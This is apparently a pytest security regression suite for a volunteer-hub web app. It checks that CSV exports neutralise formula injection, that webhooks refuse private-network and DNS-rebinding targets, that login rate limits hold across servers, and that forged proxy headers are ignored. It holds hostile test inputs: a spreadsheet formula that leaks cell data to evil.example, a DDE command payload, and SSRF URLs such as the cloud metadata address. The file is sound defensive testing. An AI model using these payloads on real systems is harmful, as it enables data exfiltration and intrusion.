"""What an attacker tried on the landed app (issue #16), one test (or more) per finding."""
import csv
import io
import json
import socket
import urllib.error
import urllib.request
from contextlib import contextmanager

import pytest
import sqlalchemy as sa

from benchmarks.harness import Gunicorn
from tests.conftest import sqlite_copy
from tests.merchants.test_merchants import shop  # noqa: F401  (fixture)
from tests.test_pages import login
from tests.vouchers.test_vouchers import haircut, owner_of  # noqa: F401  (fixtures)
from volunteer_hub.config import ConfigError, from_env
from volunteer_hub.core.errors import ValidationFailed
from volunteer_hub.core.urls import external_url
from volunteer_hub.extensions import db
from volunteer_hub.merchants import services as merchants
from volunteer_hub.nodes import services as nodes
from volunteer_hub.notifications import services as notifications
from volunteer_hub.notifications.models import WebhookDelivery
from volunteer_hub.vouchers import services as vouchers

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PRODUCTION_KEY = "9f2c" * 16  # 32 random-looking bytes in hex


def cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


# 1. Formula injection in exports ------------------------------------------------------------------

def test_a_formula_in_an_offer_title_is_text_in_the_settlement(app, world, haircut):  # noqa: F811
    offer = merchants.create_offer(owner_of(haircut), haircut.merchant, title=HYPERLINK, price=5)
    voucher = vouchers.create(world.volunteer, offer)
    vouchers.confirm(owner_of(haircut), voucher.code, "127.0.0.1")
    db.session.commit()
    staff = login(app.test_client(), owner_of(haircut))
    rows = cells(staff.get(f"/merchants/{haircut.merchant_id}/settlement.csv"))
    assert rows[1][2] == "'" + HYPERLINK
    assert rows[-1][3] == "5"  # numbers stay numbers


def test_a_formula_in_a_node_name_is_text_in_the_weekly_report(app, world):
    nodes.create_node(world.admin, name=DDE, kind="station", parent_id=world.i2.id)
    db.session.commit()
    admin = login(app.test_client(), world.centre_admin)
    rows = cells(admin.get(f"/centres/{world.centre.id}/reports/weekly.csv"))
    names = [row[1] for row in rows[1:]]
    assert "'" + DDE in names and DDE not in names
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


# 2. Webhook SSRF ----------------------------------------------------------------------------------

@pytest.mark.parametrize("url", [
    "https://169.254.169.254/latest/", "https://10.1.2.3:8443/x", "http://[::1]:6379/", "http://localhost:22/",
    "https://127.0.0.1/x", "https://[::ffff:127.0.0.1]/x", "https://100.64.0.1/", "https://224.0.0.1/",
    "https://0.0.0.0/", "https://[fe80::1]/", "https://[2002:7f00:1::]/", "https://192.168.1.1:99999/",
])
def test_webhooks_into_private_networks_are_refused(app, world, api, url):
    response = api(world.centre_admin).put(f"/api/v1/centres/{world.centre.id}/webhook", json={"url": url})
    assert response.status_code == 422 and "url" in response.json["error"]["fields"]
    assert notifications.webhook_of(world.centre) is None


def _queue_one_delivery(world):
    notifications.notify_users([world.volunteer.id], key="k", kind="theme", title="t", centre_id=world.centre.id)
    db.session.commit()
    return db.session.scalar(sa.select(WebhookDelivery))


@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="127.0.0.1/32")
def test_a_delivery_follows_no_redirect(app, world, receiver):
    internal = receiver()
    gateway = receiver(302, location=internal.url.replace("/hook", "/internal-admin"))
    notifications.configure_webhook(world.centre_admin, world.centre, url=gateway.url)
    delivery = _queue_one_delivery(world)
    assert notifications.deliver_due()["retrying"] == 1
    assert len(gateway.received) == 1 and internal.received == []
    assert delivery.last_error == "redirect"


def test_an_address_that_changes_after_the_check_is_refused_at_connection(app, world, receiver, monkeypatch):
    """DNS rebinding: the name resolved to a public address when saved, to loopback when delivered."""
    internal = receiver()
    answers = iter(["93.184.216.34", "127.0.0.1"])

    def rebinding(host, port, *args, **kwargs):
        assert host == "gw.rebind.example"
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(answers), port))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    port = internal.server.server_port
    notifications.configure_webhook(world.centre_admin, world.centre, url=f"https://gw.rebind.example:{port}/hook")
    delivery = _queue_one_delivery(world)
    notifications.deliver_due()
    assert delivery.last_error == "address" and internal.received == []


@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="127.0.0.1/32")
def test_the_delivery_list_shows_failure_categories_not_socket_text(app, world):
    notifications.configure_webhook(world.centre_admin, world.centre, url="http://127.0.0.1:9/closed")
    _queue_one_delivery(world)
    notifications.deliver_due()
    db.session.commit()
    page = login(app.test_client(), world.centre_admin).get(f"/centres/{world.centre.id}/webhook").text
    assert "无法连接" in page and "Errno" not in page and "refused" not in page.lower()


@pytest.mark.app_config(OUTBOUND_ALLOWED_NETWORKS="10.0.0.5/32")
def test_an_on_premises_gateway_is_allowed_by_an_explicit_setting(app, world):
    assert notifications.configure_webhook(world.centre_admin, world.centre, url="http://10.0.0.5:8080/sms")
    with pytest.raises(ValidationFailed):
        notifications.configure_webhook(world.centre_admin, world.centre, url="http://10.0.0.6:8080/sms")


# 3. Limits that hold across processes and servers ---------------------------------------------------

def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def production_servers(db_url: str, count: int, workers: int, **env):
    """``count`` gunicorn servers with production settings on one database, stopped afterwards."""
    settings = {"VOLUNTEER_HUB_ENV": "production", "SECRET_KEY": PRODUCTION_KEY, "PUBLIC_URL": "https://hub.example.cn",
                **env}
    servers = []
    try:
        for _ in range(count):
            servers.append(Gunicorn(db_url, _free_port(), workers=workers, threads=1, env=settings))
        yield servers
    finally:
        for server in servers:
            server.stop()


def _post_status(url: str, body: dict, headers: dict | None = None) -> int:
    request = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
                                     headers={"Content-Type": "application/json", **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status
    except urllib.error.HTTPError as exc:
        return exc.code


def _wrong_passwords(servers, attempts: int) -> list[int]:
    return [_post_status(servers[i % len(servers)].url + "/api/v1/auth/token",
                         {"phone": "13700000009", "password": "wrong-password"}) for i in range(attempts)]


@pytest.fixture
def migrated_sqlite(sqlite_template, tmp_path) -> str:
    return sqlite_copy(sqlite_template, tmp_path / "served.sqlite3")


def test_a_limit_holds_across_two_gunicorn_workers(redis_url, migrated_sqlite):
    with production_servers(migrated_sqlite, 1, 2, RATELIMIT_STORAGE_URI=redis_url,
                            RATELIMIT_LOGIN="5 per hour") as servers:
        statuses = _wrong_passwords(servers, 12)
    assert statuses == [401] * 5 + [429] * 7


def test_a_limit_holds_across_two_app_servers(redis_url, migrated_sqlite):
    with production_servers(migrated_sqlite, 2, 1, RATELIMIT_STORAGE_URI=redis_url,
                            RATELIMIT_LOGIN="5 per hour") as servers:
        statuses = _wrong_passwords(servers, 10)
    assert statuses == [401] * 5 + [429] * 5


def test_production_needs_a_shared_limit_store():
    with pytest.raises(ConfigError, match="RATELIMIT_STORAGE_URI"):
        from_env("/tmp", {"ENV_NAME": "production", "SECRET_KEY": PRODUCTION_KEY, "PUBLIC_URL": "https://h.cn"})


# 4. Proxies ---------------------------------------------------------------------------------------

BEHIND_ONE_PROXY = dict(PROXY_COUNT=1, RATELIMIT_ENABLED=True, RATELIMIT_LOGIN="5 per hour",
                        PUBLIC_URL="https://hub.example.cn")


def _token_attempt(client, remote: str, forwarded: str):
    return client.post("/api/v1/auth/token", json={"phone": "13700000009", "password": "wrong-password"},
                       headers={"X-Forwarded-For": forwarded}, environ_base={"REMOTE_ADDR": remote}).status_code


@pytest.mark.app_config(**BEHIND_ONE_PROXY)
def test_a_client_that_reaches_the_app_directly_forges_no_address(app, world):
    client = app.test_client()
    statuses = [_token_attempt(client, "203.0.113.9", f"198.51.100.{i}") for i in range(30)]
    assert statuses.count(401) == 5 and statuses.count(429) == 25


@pytest.mark.app_config(**BEHIND_ONE_PROXY)
def test_behind_the_proxy_each_client_has_its_own_budget(app, world):
    client = app.test_client()
    # The proxy appends the address it saw; anything the client wrote before that is not trusted.
    first = [_token_attempt(client, "127.0.0.1", f"10.9.9.{i}, 198.51.100.1") for i in range(6)]
    assert first == [401] * 5 + [429]
    assert _token_attempt(client, "127.0.0.1", "198.51.100.2") == 401


@pytest.mark.app_config(**BEHIND_ONE_PROXY)
def test_absolute_urls_come_from_public_url_not_from_headers(app, world, saturday, api):
    manager = api(world.s1_manager)
    forged = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http"}
    for remote in ("203.0.113.9", "127.0.0.1"):
        code = manager.get(f"/api/v1/events/{saturday.id}/checkin-code", headers=forged,
                           environ_base={"REMOTE_ADDR": remote})
        assert code.status_code == 200 and code.json["url"].startswith("https://hub.example.cn/c/")
    with app.app_context():  # outside any request (the scheduler, texts) too
        assert external_url("vouchers.counter", code="ABCD2345") == "https://hub.example.cn/r/ABCD2345"


def test_public_url_is_required_and_https_in_production():
    base = {"ENV_NAME": "production", "SECRET_KEY": PRODUCTION_KEY, "RATELIMIT_STORAGE_URI": "memory://"}
    for url in ("", "http://hub.example.cn", "https://", "https://hub.example.cn/?x=1"):
        with pytest.raises(ConfigError, match="PUBLIC_URL"):
            from_env("/tmp", {**base, "PUBLIC_URL": url})
    assert from_env("/tmp", {**base, "PUBLIC_URL": "https://hub.example.cn/wmsj"})["PUBLIC_URL"]
